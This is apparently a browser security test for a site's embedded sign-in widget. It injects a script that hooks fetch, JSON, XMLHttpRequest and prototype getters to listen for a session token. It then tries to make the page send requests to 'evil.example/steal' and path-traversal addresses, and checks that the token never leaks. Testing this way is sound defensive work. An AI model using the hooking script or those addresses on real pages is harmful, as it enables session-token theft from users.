import { getProduct } from '@boardwalk/tools/testing/product';
import type { Page, Request } from 'playwright';
import { afterEach, expect, test } from 'vitest';
import { openMemberElsewhere } from '../accounts/open-account.ts';
import { agree, enter, openBrowser, openMembers, signInToSite } from '../accounts/pop-up-steps.ts';

const { siteOrigin } = getProduct();
const ends: (() => Promise<void>)[] = [];

afterEach(async () => {
  for (const end of ends.splice(0)) await end();
});

/** Runs in a page whose widgets have come: keeps what anything says that a script can replace. */
function eavesdrop(): void {
  const told: string[] = [];
  const { stringify } = JSON;
  const { then } = Promise.prototype;
  const { text, clone } = Response.prototype;
  const keep = (...things: unknown[]) => {
    for (const thing of things) {
      if (typeof thing === 'string') told.push(thing);
      else if (thing instanceof Headers) told.push(stringify([...thing]));
      else if (typeof thing === 'object' && thing !== null) told.push(stringify(thing) ?? '');
    }
  };
  Object.assign(globalThis, { told });
  const listenTo = (owner: object, name: string) => {
    const original = Reflect.get(owner, name);
    Reflect.set(owner, name, function (this: unknown, ...given: unknown[]) {
      keep(this, ...given);
      const answer = Reflect.apply(original, this, given);
      if (!(answer instanceof Promise)) keep(answer);
      return answer;
    });
  };
  listenTo(globalThis, 'fetch');
  for (const name of ['stringify', 'parse']) listenTo(JSON, name);
  for (const name of ['startsWith', 'slice', 'replace', 'concat']) {
    listenTo(String.prototype, name);
  }
  for (const name of ['set', 'append', 'get']) listenTo(Headers.prototype, name);
  for (const name of ['json', 'text', 'clone']) listenTo(Response.prototype, name);
  listenTo(Object, 'assign');
  // What is awaited asks the prototype first, and so does `then`.
  let isListening = false;
  Object.defineProperty(Promise.prototype, 'constructor', {
    get(this: Promise<unknown>) {
      if (isListening) return Promise;
      isListening = true;
      Reflect.apply(then, this, [hearValue, () => {}]);
      isListening = false;
      return Promise;
    },
  });
  function hearValue(value: unknown): void {
    if (!(value instanceof Response)) keep(value);
    else if (!value.bodyUsed)
      Reflect.apply(text, Reflect.apply(clone, value, []), []).then(keep, () => {});
  }
  Object.defineProperty(Object.prototype, 'authorization', { set: keep, configurable: true });
  // What is missing in a request is looked up on its prototype, and so is `then` of all that a
  // promise brings; a listener that runs meanwhile is revealed by `event`.
  let isAsked = false;
  function hearAsked(this: unknown): undefined {
    if (isAsked) return;
    isAsked = true;
    const { target } = globalThis.event ?? {};
    if (this instanceof Response) hearValue(this);
    else if (typeof this === 'object') keep(this);
    if (target instanceof XMLHttpRequest) keep(target.responseText);
    isAsked = false;
  }
  const missing = ['then', 'cache', 'duplex', 'integrity', 'keepalive', 'mode', 'priority'];
  for (const name of [...missing, 'referrer', 'window', Symbol.iterator]) {
    Object.defineProperty(Object.prototype, name, {
      get: hearAsked,
      set(value: unknown) {
        Object.defineProperty(this, name, { value, writable: true, configurable: true });
      },
      configurable: true,
    });
  }
  for (const name of ['open', 'send', 'setRequestHeader']) {
    listenTo(XMLHttpRequest.prototype, name);
  }
}

/** Every request that carries the token of a session, and the token itself. */
function watch(page: Page) {
  const carrying: Request[] = [];
  const tokens: string[] = [];
  page.context().on('request', (request) => {
    if (request.headers().authorization) carrying.push(request);
  });
  page.on('response', async (response) => {
    if (response.url().includes('/embeds/session/token') && response.ok()) {
      tokens.push((await response.json()).token);
    }
  });
  return { carrying, tokens };
}

test('no script that comes after ours hears a page’s token, and none sends it elsewhere', async () => {
  const context = await openBrowser(true, ends);
  const page = await openMembers(context);
  await page.getByRole('button', enter).waitFor();
  await page.evaluate(eavesdrop);
  const { carrying, tokens } = watch(page);
  await agree(await signInToSite(page, await openMemberElsewhere({ firstName: 'Quillan' })));
  await page.getByText('Signed in as').waitFor();
  await expect.poll(() => tokens.length).toBe(1);
  await expect.poll(() => carrying.length).toBeGreaterThan(0);

  // Whatever is requested of it, the page's own sender calls our API alone.
  const answers = await page.evaluate(async (api) => {
    const registry = Reflect.get(globalThis, Symbol.for('boardwalk.page'));
    const [{ send }] = registry.share('senders', () => new Map()).get(api);
    const tries = [
      'https://evil.example/steal',
      '//evil.example/steal',
      '@evil.example/steal',
      '../evil',
      '..\\evil',
      '%2e%2e/evil',
      '.\t./evil',
      { toString: () => 'https://evil.example/steal' },
    ];
    const all = tries.map((address) =>
      send(address, { method: 'GET', headers: {} }).then(
        ({ url }: Response) => url,
        () => 'refused',
      ),
    );
    const told: unknown[] = Reflect.get(globalThis, 'told');
    const headers = {
      [Symbol.iterator]() {
        told.push(String(Reflect.get(this, 'authorization')));
        return [][Symbol.iterator]();
      },
    };
    await send('v1/user/', { method: 'GET', headers }).catch(() => {});
    return Promise.all([
      ...all,
      send('v1/user/', { method: 'GET' }).then(({ ok }: Response) => ok),
    ]);
  }, siteOrigin);
  // As every widget of the page, a script can act as long as the page is open.
  expect(answers.at(-1)).toBe(true);
  for (const request of carrying) expect(request.url()).toMatch(`${siteOrigin}/api/`);
  expect(answers.slice(3, 7)).toEqual(Array(4).fill('refused'));

  await page.getByRole('button', { name: 'Sign out' }).click();
  await page.getByRole('button', enter).waitFor();
  const told: string[] = await page.evaluate(() => Reflect.get(globalThis, 'told'));
  const [token = 'none'] = tokens;
  expect(token).toMatch(/^[\w-]{43}$/);
  // It listens well: what widgets read and write passes it.
  expect(told.join(' ')).toContain('Quillan');
  expect(told.filter((text) => text.includes(token))).toEqual([]);
  expect(await page.evaluate(() => Object.keys(globalThis).join(' '))).not.toContain(token);
});
